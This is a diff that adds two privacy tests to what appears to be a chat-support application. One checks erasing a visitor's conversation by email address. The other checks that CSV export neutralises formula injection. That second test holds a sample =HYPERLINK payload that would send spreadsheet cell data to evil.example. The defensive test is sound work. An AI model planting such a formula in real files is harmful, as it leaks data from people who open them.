@@ -107,3 +107,20 @@ class PrivacyCases:
         assert len(rows) == 3 * 3  # two messages and a note each
         assert {r["text"] for r in rows if r["role"] == "user"} == {"question 0", "question 1", "question 2"}
         assert {r["corrected_intent"] for r in rows if r["role"] == "user"} == {"payment_problem"}
+
+    def test_an_address_a_visitor_left_finds_their_conversation(self, sessions):
+        with sessions.begin() as db:
+            left = conversation(db)
+            db.get_one(Conversation, left).slots = {"contact_email": "Anon@Example.org", "offline": True}
+            conversation(db)
+        with sessions.begin() as db:
+            assert erase(db, 1, email=" anon@example.ORG ").conversations == 1
+        with sessions() as db:
+            assert db.get(Conversation, left) is None
+
+    def test_a_visitors_formula_is_plain_text_in_the_csv(self, sessions):
+        with sessions.begin() as db:
+            conversation(db, text='=HYPERLINK("http://evil.example/?"&A1,"click")')
+        found = list(transcripts(sessions, {"status": None}, 0.5))
+        rows = list(csv.DictReader(io.StringIO("".join(lines(iter(found), ExportFormat.CSV)))))
+        assert [r["text"] for r in rows if r["role"] == "user"] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")']
